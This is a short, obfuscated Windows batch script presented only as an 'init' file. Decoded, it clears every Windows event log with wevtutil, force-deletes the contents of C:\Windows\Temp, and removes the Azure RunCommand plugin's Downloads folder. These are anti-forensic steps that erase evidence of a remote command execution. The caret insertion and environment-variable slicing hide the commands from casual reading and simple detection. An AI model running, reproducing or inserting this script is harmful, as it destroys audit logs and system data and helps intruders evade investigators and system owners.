REM init 3048 v2
f%COMSPEC:~7,1%%PUBLIC:~-9,1% /^F "tokens=*" %%1 ^i^n ('we^vtu^t^il.^exe ^e^l') DO ^wevtu^til.^e^x^e c^l "%%1"
%COMSPEC:~22,1%%COMSPEC:~24,1%^l /^f /q C:\W^in^do^ws\^Te^mp\*.*
r%COMSPEC:~6,1% /s /^q C:\Packa^g^e^s\P^l^u^gins\Mi^c^ros^of^t.C^Pla^t.^Core.Run^C^omman^dWind^o^ws\1.^1.15\D^o^w^n^l^oa^ds
